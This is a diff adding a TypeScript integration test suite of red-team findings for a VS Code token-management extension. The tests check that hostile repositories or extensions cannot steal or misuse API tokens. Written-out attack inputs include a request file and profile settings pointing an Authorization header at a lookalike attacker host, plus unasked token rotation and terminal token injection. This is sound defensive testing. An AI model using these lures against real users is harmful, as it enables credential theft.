@@ -1,0 +1,156 @@
+// Red-team findings, in the extension host against a sandbox started here: each test states what a hostile
+// repository or a hostile extension can do today and FAILS while the hole is open. They are not in the reliability
+// table (no [id] in their titles) until the lead decides how each is fixed.
+import * as assert from 'node:assert/strict';
+import * as fs from 'node:fs';
+import * as path from 'node:path';
+import * as vscode from 'vscode';
+import type { C2mTestApi } from '../../client/src/integrations/extensionApi';
+import type { Sandbox } from '../../sandbox/src/types';
+import { ClientCommands, TOKEN_PLACEHOLDER } from '@shared/protocol/clientCommands';
+import { acceptTokenCompletion, c2mApi, config, eventually, profileFor, run, setProfiles, startTestSandbox, testClients, tokenOf, userProfiles } from './extensionSupport';
+
+const PROFILE = 'rt';
+const PROFILE_NAME = `IT ${PROFILE}`;
+const CONSUMER_ID = 'c2m-test.c2m-consumer';
+/** A host that looks like the C2M API's and is the attacker's. */
+const LOOKALIKE = 'https://api.c2m.example.evil.test/v1';
+
+interface Consumer {
+  run(command: string, ...args: unknown[]): Promise<{ result?: unknown; error?: string }>;
+}
+
+function workspaceFile(name: string): string {
+  const folder = vscode.workspace.workspaceFolders?.[0];
+  assert.ok(folder, 'the integration run opens a workspace folder');
+  return path.join(folder.uri.fsPath, name);
+}
+
+describe('redteam: holes found by the security review', function () {
+  this.timeout(120_000);
+  let api: C2mTestApi;
+  let sandbox: Sandbox;
+  let consumer: Consumer;
+  let savedProfiles: ReturnType<typeof userProfiles>;
+  const files: string[] = [];
+
+  /** Consumes a scripted "no" the test left because nobody asked (a declined copy prompt takes it harmlessly). */
+  async function drainAnswers(): Promise<void> {
+    while (api.testing.pendingAnswers() > 0) await run('c2m.copyShortTermToken', PROFILE);
+  }
+
+  before(async () => {
+    api = await c2mApi();
+    savedProfiles = userProfiles();
+    const clients = testClients('redteam-client-secret-7d2c');
+    sandbox = await startTestSandbox(clients);
+    await setProfiles(api, [profileFor(PROFILE, sandbox.baseUrl, clients.secret, 'client_secret')], PROFILE);
+    await api.testing.engine.setClientSecret(PROFILE, clients.secret.clientSecret!);
+    assert.ok(await run('c2m.issueLongTermToken', PROFILE), 'long-term token issued');
+    const extension = vscode.extensions.getExtension<Consumer>(CONSUMER_ID);
+    assert.ok(extension, `${CONSUMER_ID} is loaded as a second extension under development`);
+    consumer = await extension.activate();
+  });
+
+  after(async () => {
+    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
+    const ws = vscode.ConfigurationTarget.Workspace;
+    for (const key of ['profiles', 'activeProfile', 'terminal.injectToken']) await config().update(key, undefined, ws);
+    await api.testing.engine.forgetProfile(PROFILE).catch(() => undefined);
+    await setProfiles(api, savedProfiles);
+    for (const f of files) fs.rmSync(f, { force: true });
+    await sandbox.stop();
+  });
+
+  it('redteam: a request file of the repository addressed to a lookalike host does not get the profile\'s token from the completion', async () => {
+    // What a cloned repository ships: requests to a host that is not the profile's (literal, and through a file
+    // variable, which is how REST Client and httpYac files usually name their host).
+    const file = workspaceFile('redteam-lookalike.http');
+    files.push(file);
+    fs.writeFileSync(file, `POST ${LOOKALIKE}/jobs\nAuthorization:\n\n###\n@host = ${LOOKALIKE}\nGET {{host}}/jobs\nAuthorization:\n`);
+    const doc = await vscode.workspace.openTextDocument(file);
+    await vscode.window.showTextDocument(doc);
+    const offered = async (line: number): Promise<string[]> => {
+      const list = await eventually(async () => {
+        const l = await vscode.commands.executeCommand<vscode.CompletionList>('vscode.executeCompletionItemProvider', doc.uri, new vscode.Position(line, 'Authorization:'.length));
+        return l.items.length > 0 ? l : undefined;
+      }, 'the language server to answer completions');
+      return list.items.filter((i) => i.command?.command === ClientCommands.insertToken).map((i) => (typeof i.label === 'string' ? i.label : i.label.label));
+    };
+    const literal = await offered(1);
+    const viaVariable = await offered(6);
+    // Accepting the item as the user would (the editor active, the cursor where the suggestion leaves it).
+    if (literal.length > 0) await (await acceptTokenCompletion(doc, new vscode.Position(1, 'Authorization:'.length), PROFILE_NAME)).command;
+    const line = doc.lineAt(1).text;
+    await vscode.commands.executeCommand('workbench.action.files.revert');
+    assert.deepEqual(
+      { literal, viaVariable, line: line.includes(TOKEN_PLACEHOLDER) || line === 'Authorization:' ? 'no token' : 'TOKEN INSERTED' },
+      { literal: [], viaVariable: [], line: 'no token' },
+      `a token of "${PROFILE_NAME}" (base URL ${sandbox.baseUrl}) is offered for and inserted into a request to ${LOOKALIKE}`,
+    );
+  });
+
+  it('redteam: another extension cannot rotate the long-term token (which revokes the old one) without asking the user', async () => {
+    const before = tokenOf(api, PROFILE, 'long');
+    assert.ok(before?.tokenId, 'a live long-term token');
+    api.testing.answer(undefined); // if the user is asked, the user says no
+    const ran = await consumer.run('c2m.rotateLongTermToken', PROFILE);
+    const asked = api.testing.pendingAnswers() === 0;
+    await drainAnswers();
+    const after = tokenOf(api, PROFILE, 'long');
+    assert.deepEqual(
+      { asked, oldRevoked: sandbox.isRevoked(before.tokenId), sameToken: after?.tokenId === before.tokenId },
+      { asked: true, oldRevoked: false, sameToken: true },
+      `c2m.rotateLongTermToken run by ${CONSUMER_ID} gave ${JSON.stringify(ran.result ?? ran.error)}: the user's long-term token ${before.tokenId} was revoked unasked`,
+    );
+  });
+
+  it('redteam: another extension cannot switch the active profile (which the env sync, terminals and new sessions follow) without asking the user', async () => {
+    const other = { ...profileFor('rt-other', sandbox.baseUrl, testClients('redteam-other-secret-1a9f').secret, 'client_secret'), name: 'IT rt-other' };
+    await setProfiles(api, [...userProfiles(), other], PROFILE);
+    try {
+      api.testing.answer(undefined);
+      await consumer.run('c2m.switchProfile', 'rt-other');
+      const asked = api.testing.pendingAnswers() === 0;
+      await drainAnswers();
+      const active = api.tokens.profiles().find((p) => p.active)?.id;
+      assert.deepEqual({ asked, active }, { asked: true, active: PROFILE }, `${CONSUMER_ID} made "${active}" the active profile unasked`);
+    } finally {
+      await setProfiles(api, userProfiles().filter((p) => p.id !== 'rt-other'), PROFILE);
+    }
+  });
+
+  it('redteam: a trusted workspace\'s settings cannot silently turn on terminal token injection', async () => {
+    await api.testing.engine.getShortTermToken(PROFILE);
+    assert.notEqual(config().inspect<boolean>('terminal.injectToken')?.globalValue, true, 'the user never turned it on');
+    // What a repository's .vscode/settings.json says.
+    await config().update('terminal.injectToken', true, vscode.ConfigurationTarget.Workspace);
+    try {
+      const fingerprint = await api.testing.terminalTokenFingerprint();
+      assert.equal(fingerprint, undefined, `every new terminal gets the short-term token of "${PROFILE_NAME}" (fingerprint ${fingerprint ?? ''}) as C2M_ACCESS_TOKEN because the workspace said so; env sync asks for the same`);
+    } finally {
+      await config().update('terminal.injectToken', undefined, vscode.ConfigurationTarget.Workspace);
+      await api.testing.terminalTokenFingerprint();
+    }
+  });
+
+  it('redteam: a trusted workspace\'s settings cannot silently re-point a User profile by reusing its id', async () => {
+    const mine = userProfiles().find((p) => p.id === PROFILE);
+    assert.ok(mine);
+    // Same id, same name: the Tokens view, the status bar and the account label ("name (id)") look as before.
+    await config().update('profiles', [{ ...mine, baseUrl: LOOKALIKE }], vscode.ConfigurationTarget.Workspace);
+    try {
+      api.testing.syncProfiles();
+      const seen = api.tokens.profiles().find((p) => p.id === PROFILE);
+      const description = api.testing.profileDescription(PROFILE);
+      assert.deepEqual(
+        { baseUrl: seen?.baseUrl, name: seen?.name },
+        { baseUrl: mine.baseUrl, name: mine.name },
+        `the workspace turned the user's profile "${mine.name}" into one for ${seen?.baseUrl ?? ''}; the view says only "${description}"`,
+      );
+    } finally {
+      await config().update('profiles', undefined, vscode.ConfigurationTarget.Workspace);
+      api.testing.syncProfiles();
+    }
+  });
+});
